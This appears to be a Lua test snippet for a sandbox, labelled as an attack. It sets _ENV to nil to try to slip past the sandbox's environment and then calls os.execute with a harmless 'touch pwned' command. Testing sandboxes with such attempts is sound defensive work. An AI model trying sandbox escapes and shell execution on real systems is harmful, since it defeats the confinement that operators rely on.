-- Attack: set _ENV to nil, so that name lookups no longer go through the
-- sandbox's environment, then call a library function.
_ENV = nil
os.execute("touch pwned")
